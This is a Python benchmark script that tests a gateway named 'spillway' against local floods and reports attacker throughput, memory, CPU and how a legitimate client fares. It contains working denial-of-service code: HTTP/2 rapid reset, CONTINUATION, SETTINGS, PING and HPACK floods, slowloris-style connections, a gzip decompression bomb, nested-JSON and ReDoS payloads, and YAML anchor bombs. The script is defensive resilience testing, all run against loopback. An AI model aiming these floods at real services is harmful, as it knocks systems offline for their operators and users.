#!/usr/bin/env python3
"""Measures what floods of a few connections cost a gateway: scripts/bench.sh floods [NAME...]

floods.py SPILLWAY [--seconds N] [NAME...]

Each flood gets a gateway of its own before servers that answer at once. For some seconds two processes attack it, as fast as it
takes their bytes, and a good client asks beside them, over a kept connection and over a new one in turn; its server is its own.
Printed for each flood: bytes a second that the attackers handed to the kernel, which may throw them away unread; resident memory
at its peak above that of the idle gateway; processor seconds of the gateway for each second; and what the good client got.
Attackers, gateway and good client share the machine.
"""

import argparse
import gzip
import http.client
import json
import multiprocessing
import os
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

ATTACKERS = 2
WARM_UP = 300
PAUSE_OF_GOOD_CLIENT = 0.02
# Seconds after which an answer counts as none.
PATIENCE = 5.0
MIB = 1 << 20
LARGE = 8 * MIB
# Connections of one attacker in floods that hold them.
HELD = 1000

CONFIGURATION = """
listeners:
  - {name: plain, address: "127.0.0.1:PLAIN", limits: {headerTimeout: 5s, bodyTimeout: 5s, writeTimeout: 5s}}
  - {name: h2c, address: "127.0.0.1:H2C", protocol: h2c, limits: {writeTimeout: 5s}}
admin: {address: "127.0.0.1:ADMIN"}
backends:
  - {name: web, endpoints: [{url: "http://127.0.0.1:ORIGIN"}]}
  - {name: chat, protocol: openai, endpoints: [{url: "http://127.0.0.1:ORIGIN"}]}
  - {name: good, endpoints: [{url: "http://127.0.0.1:GOOD"}]}
routes:
  - name: expression
    matches: [{path: {prefix: /expression}, method: POST}]
    filters: [{cel: {deny: "request.body.a.exists(x, x == 1)"}}]
    backendRefs: [{name: web}]
  - name: pattern
    matches: [{path: {regex: "/pattern/(a|aa)*(a|b)*[a-z]{1,64}x"}}]
    backendRefs: [{name: web}]
  - name: chat
    matches: [{path: {prefix: /v1}, model: "small-*"}]
    backendRefs: [{name: chat}]
  - name: good
    hostnames: [good]
    backendRefs: [{name: good}]
  - name: web
    backendRefs: [{name: web}]
telemetry: {logs: {access: false}}
"""


# Frames of HTTP/2 (RFC 9113).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# `:method GET`, `:scheme http`, `:path /` of the static table, `:authority a` (RFC 7541, appendix A).
GET = b"\x82\x86\x84\x41\x01a"
# A body that the gateway holds, since its model decides the route.
CHAT = "/v1/chat/completions"
POST_CHAT = b"\x83\x86\x04" + bytes([len(CHAT)]) + CHAT.encode() + b"\x41\x01a\x0f\x10\x10application/json"
GET_LARGE = b"\x82\x86\x04\x06/large\x41\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def setting(number, value):
    return struct.pack(">HI", number, value)


class Attack:
    """What an attacker has: addresses, the end of its time, the bytes that it has sent."""

    def __init__(self, ports, until, sent):
        self.ports, self.until, self.sent = ports, until, sent

    def lasts(self):
        return time.monotonic() < self.until

    def connect(self, listener="plain"):
        stream = socket.create_connection(("127.0.0.1", self.ports[listener]), timeout=1)
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # Closed by a reset, so that floods leave no connections in TIME_WAIT to others on the machine.
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        return stream

    def send(self, stream, data):
        """Sends data as far as it is taken within a second; false where the connection has ended or takes no more."""
        view = memoryview(data)
        try:
            while view and self.lasts():
                count = stream.send(view)
                self.sent.value += count
                view = view[count:]
        except OSError:
            return False
        return not view

    def repeat(self, begin, data, listener="plain", reads=False):
        """Opens connections one after the other, each with a beginning, and sends data until they end."""
        while self.lasts():
            try:
                with self.connect(listener) as stream:
                    if reads:
                        threading.Thread(target=drain, args=(stream,), daemon=True).start()
                    going = self.send(stream, begin)
                    while going and self.lasts():
                        going = self.send(stream, data() if callable(data) else data)
            except OSError:
                time.sleep(0.01)

    def hold(self, begin, again=b"", listener="plain", count=HELD):
        """Holds connections, each with a beginning, sends a piece over each once a second, and opens anew what was closed."""
        held = []
        while self.lasts():
            while len(held) < count and self.lasts():
                try:
                    stream = self.connect(listener)
                    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                except OSError:
                    break
                if self.send(stream, begin):
                    held.append(stream)
            time.sleep(1)
            if again:
                held = [stream for stream in held if self.send(stream, again)]
        for stream in held:
            stream.close()


def drain(stream):
    try:
        while stream.recv(65536):
            pass
    except OSError:
        pass


def start_of(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(settings))


def rapid_reset(attack):
    """CVE-2023-44487."""
    streams = b"".join(
        frame(HEADERS, 5, n, GET) + frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in range(1, 20_000, 2))
    attack.repeat(start_of(), streams, "h2c", reads=True)


def continuation(attack):
    """CVE-2024-27316."""
    field = b"\x00\x01x\x04aaaa"
    more = frame(CONTINUATION, 0, 1, field * 2000) * 8
    attack.repeat(start_of() + frame(HEADERS, 0, 1, GET), more, "h2c", reads=True)


def empty_data(attack):
    """CVE-2019-9518."""
    attack.repeat(start_of() + frame(HEADERS, 4, 1, POST_CHAT), frame(DATA, 0, 1) * 4000, "h2c", reads=True)


def settings(attack):
    """CVE-2019-9515: each asks for an acknowledgement, and none is read."""
    attack.repeat(start_of(), frame(SETTINGS, 0, 0, setting(4, 65535)) * 4000, "h2c")


def ping(attack):
    """CVE-2019-9512: each asks for an answer, and none is read."""
    attack.repeat(start_of(), frame(PING, 0, 0, b"12345678") * 4000, "h2c")


def hpack(attack):
    """A field of 4,000 bytes in the dynamic table, which each of 16,000 further bytes repeats."""
    stored = GET + b"\x40\x01x\x7f" + bytes([0xA1, 0x1E]) + b"a" * 4000
    while attack.lasts():
        streams = iter(range(3, 1 << 31, 2))

        def bombs(streams=streams):
            return b"".join(frame(HEADERS, 5, next(streams), GET + b"\xbe" * 16_000) for _ in range(20))

        try:
            with attack.connect("h2c") as stream:
                threading.Thread(target=drain, args=(stream,), daemon=True).start()
                going = attack.send(stream, start_of() + frame(HEADERS, 5, 1, stored))
                while going and attack.lasts():
                    going = attack.send(stream, bombs())
        except OSError:
            time.sleep(0.01)


def zero_windows(attack):
    """Streams that ask for 8 MiB each and open no window."""
    streams = b"".join(frame(HEADERS, 5, n, GET_LARGE) for n in range(1, 200, 2))
    attack.hold(start_of(setting(4, 0)) + streams, frame(PING, 0, 0, b"12345678"), "h2c", count=20)


def slow_heads(attack):
    attack.hold(b"GET / HTTP/1.1\r\nHost: a\r\n", b"x")


def slow_bodies(attack):
    attack.hold(post_head(CHAT, "Content-Length: 1000000") + b'{"model":"small-1","x":"', b"x")


def slow_readers(attack):
    attack.hold(b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n", count=200)


def idle(attack):
    attack.hold(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", count=4000)


def connections(attack):
    """Connections that are opened and closed, with a request each."""
    while attack.lasts():
        try:
            with attack.connect() as stream:
                attack.send(stream, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
        except OSError:
            time.sleep(0.01)


def giant_heads(attack):
    attack.repeat(b"GET / HTTP/1.1\r\nHost: a\r\nX: ", b"a" * MIB)


def post_head(path, *fields):
    fields = "".join(field + "\r\n" for field in fields)
    return f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n{fields}\r\n".encode()


def chunked_posts(attack, count, extension):
    """Requests whose bodies come in so many chunks of one byte, each with an extension."""
    before, after = b'{"model":"small-1","x":"', b'"}'
    chunk = b"1" + extension + b"\r\na\r\n"
    end = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (after, b""))
    body = b"%x\r\n%s\r\n" % (len(before), before) + chunk * count + end
    attack.repeat(b"", post_head(CHAT, "Transfer-Encoding: chunked") + body, reads=True)


def chunks(attack):
    chunked_posts(attack, 1_000_000, b"")


def chunk_lines(attack):
    chunked_posts(attack, 10_000, b";" + b"a" * 1000)


def pipelined(attack):
    """Requests one behind the other, whose answers nobody reads."""
    attack.repeat(b"", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 4000)


def posts(attack, path, body, *fields):
    """Requests with a body, one after the other over one connection; their answers are thrown away."""
    attack.repeat(b"", post_head(path, f"Content-Length: {len(body)}", *fields) + body, reads=True)


def decompression(attack):
    """A gigabyte of zeros behind gzip, in a megabyte."""
    posts(attack, CHAT, COMPRESSED, "Content-Encoding: gzip")


def nested_json(attack):
    posts(attack, CHAT, b'{"model":"small-1","x":' + b"[" * 4 * MIB)


def many_values(attack):
    posts(attack, CHAT, b'{"model":"small-1","x":[' + b"1," * (2 * MIB) + b"1]}")


def expressions(attack):
    """A loop over a list of 300,000 numbers. One inside another is refused with the configuration."""
    posts(attack, "/expression", json.dumps({"a": [0] * 300_000}).encode())


def patterns(attack):
    """Paths of 30,000 bytes for a pattern that backtracking engines take for ever to refuse."""
    request = b"GET /pattern/" + b"a" * 30_000 + b"! HTTP/1.1\r\nHost: a\r\n\r\n"
    attack.repeat(b"", request * 8, reads=True)


FLOODS = {
    "streams opened and reset": rapid_reset,
    "CONTINUATION without end": continuation,
    "empty DATA frames": empty_data,
    "SETTINGS": settings,
    "PING": ping,
    "HPACK bombs": hpack,
    "windows of zero": zero_windows,
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "slow readers": slow_readers,
    "idle connections": idle,
    "connections opened and closed": connections,
    "giant heads": giant_heads,
    "chunks of one byte": chunks,
    "long chunk lines": chunk_lines,
    "pipelined, unread": pipelined,
    "decompression bombs": decompression,
    "nested JSON": nested_json,
    "JSON of many values": many_values,
    "loops in expressions": expressions,
    "patterns": patterns,
}
COMPRESSED = b""


def free_port():
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return listener.getsockname()[1]


def wait_for(port):
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.02)
    sys.exit(f"nothing listens on port {port}")


class Program:
    """Running program, with its memory and processor time."""

    def __init__(self, *command):
        self.process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def memory(self, what="VmRSS"):
        with open(f"/proc/{self.process.pid}/status", encoding="ascii") as status:
            return next(int(line.split()[1]) / 1024 for line in status if line.startswith(what))

    def forget_peak(self):
        with open(f"/proc/{self.process.pid}/clear_refs", "w", encoding="ascii") as file:
            file.write("5")

    def processor(self):
        with open(f"/proc/{self.process.pid}/stat", encoding="ascii") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def end(self):
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(3)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


def serve(folder, port):
    """nginx that answers `ok`, and 8 MiB at /large."""
    os.mkdir(folder)
    with open(os.path.join(folder, "large"), "wb") as file:
        file.write(b"x" * LARGE)
    config = os.path.join(folder, "nginx.conf")
    with open(config, "w", encoding="ascii") as file:
        file.write(f"""daemon off; worker_processes 1; pid {folder}/nginx.pid; error_log /dev/null;
events {{ worker_connections 10000; }}
http {{ access_log off; keepalive_requests 1000000000; client_max_body_size 0; client_body_temp_path {folder}/bodies;
  server {{ listen 127.0.0.1:{port}; location / {{ return 200 'ok'; }} location = /large {{ root {folder}; }} }} }}""")
    return Program("nginx", "-c", config)


def ask(connection):
    connection.request("GET", "/", headers={"Host": "good"})
    answer = connection.getresponse()
    return answer.status == 200 and answer.read() == b"ok"


def good_client(port, until, answers):
    """Asks until the end, over a kept connection and a new one in turn. Puts the seconds of each answer, or None."""
    kept = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    took = []
    while time.monotonic() < until:
        for connection in (kept, http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)):
            began = time.monotonic()
            try:
                is_good = ask(connection)
                took.append(time.monotonic() - began if is_good else None)
            except (OSError, http.client.HTTPException):
                took.append(None)
                connection.close()
            if connection is not kept:
                connection.close()
        time.sleep(PAUSE_OF_GOOD_CLIENT)
    answers.put(took)


def warm_up(port):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    for _ in range(WARM_UP):
        assert ask(connection), "the gateway answers"
    connection.close()


def measure(spillway, folder, origins, flood, seconds):
    """Runs one flood, or none. Returns what is printed of it."""
    ports = {"plain": free_port(), "h2c": free_port(), "ADMIN": free_port()}
    config = os.path.join(folder, "spillway.yaml")
    text = CONFIGURATION
    for name, port in {**ports, **origins}.items():
        text = text.replace(name.upper(), str(port))
    with open(config, "w", encoding="ascii") as file:
        file.write(text)
    gateway = Program(spillway, "serve", "-c", config)
    try:
        wait_for(ports["plain"])
        warm_up(ports["plain"])
        before = gateway.memory()
        gateway.forget_peak()
        until = time.monotonic() + seconds
        sent = [multiprocessing.Value("q", 0, lock=False) for _ in range(ATTACKERS if flood else 0)]
        answers = multiprocessing.Queue()
        attackers = [multiprocessing.Process(target=flood, args=(Attack(ports, until, count),), daemon=True) for count in sent]
        good = multiprocessing.Process(target=good_client, args=(ports["plain"], until, answers), daemon=True)
        spent = gateway.processor()
        for process in [*attackers, good]:
            process.start()
        took = answers.get(timeout=seconds + 4 * PATIENCE)
        spent = gateway.processor() - spent
        peak = gateway.memory("VmHWM")
        for process in [*attackers, good]:
            process.join(2)
            process.kill()
        assert gateway.process.poll() is None, "the gateway lives"
    finally:
        gateway.end()
    answered = sorted(time_taken for time_taken in took if time_taken)
    late = answered[int(len(answered) * 0.99)] * 1000 if answered else float("nan")
    middle = answered[len(answered) // 2] * 1000 if answered else float("nan")
    bytes_sent = sum(count.value for count in sent) / seconds / MIB
    return bytes_sent, peak - before, spent / seconds, len(answered), len(took), middle, late


def documents(spillway, folder):
    """Configurations that grow when they are read: `spillway check` refuses each, with its time and memory. First of all, since
    the system counts the memory of this program for theirs."""
    anchors = (f"{after}: &{after} [{', '.join([before] * 9)}]\n"
               for before, after in zip(["x", *("*" + name for name in "abcdefgh")], "abcdefghi"))
    for name, lines in {
        "YAML whose anchors grow": anchors,
        "YAML nested 100,000 deep": ["[" * 100_000],
        "YAML of a million keys": (f"k{n}: 1\n" for n in range(1_000_000)),
    }.items():
        path = os.path.join(folder, "bomb.yaml")
        with open(path, "w", encoding="ascii") as file:
            file.writelines(lines)
        began = time.monotonic()
        command = subprocess.Popen([spillway, "check", path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        _, status, used = os.wait4(command.pid, 0)
        took = time.monotonic() - began
        assert os.waitstatus_to_exitcode(status) > 0, "the file is refused and nothing crashes"
        print(f"{name:30} {os.path.getsize(path) / MIB:>9.1f} MiB read, refused after {took:.2f} s, "
              f"{used.ru_maxrss / 1024:.0f} MiB resident at most", flush=True)


def main():
    global COMPRESSED
    arguments = argparse.ArgumentParser(description="Measures what floods cost a gateway.")
    arguments.add_argument("spillway")
    arguments.add_argument("names", nargs="*", metavar="NAME", help="beginning of a flood's name; all if left out")
    arguments.add_argument("--seconds", type=float, default=6)
    given = arguments.parse_intermixed_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    folder = tempfile.mkdtemp(prefix="spillway-floods-")
    os.chmod(folder, 0o755)
    if not given.names:
        documents(given.spillway, folder)
    COMPRESSED = gzip.compress(bytes(1 << 30), 9)
    origins = {name: free_port() for name in ("ORIGIN", "GOOD")}
    servers = [serve(os.path.join(folder, name), port) for name, port in origins.items()]
    try:
        for port in origins.values():
            wait_for(port)
        print(f"{ATTACKERS} attackers for {given.seconds:g} s each; `answered` and the times are the good client's")
        print(f"{'':30} {'sent':>11} {'memory':>12} {'processor':>10} {'answered':>13} {'median':>9} {'p99':>10}")
        wanted = {name: flood for name, flood in FLOODS.items() if not given.names or any(map(name.startswith, given.names))}
        for name, flood in {"nothing": None, **wanted}.items():
            sent, memory, spent, answered, asked, middle, late = measure(
                given.spillway, folder, origins, flood, given.seconds)
            print(f"{name:30} {sent:>6.1f} MiB/s {memory:>+8.1f} MiB {spent:>8.2f} s {answered:>6}/{asked:<6} "
                  f"{middle:>6.1f} ms {late:>7.1f} ms", flush=True)
    finally:
        for server in servers:
            server.end()
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
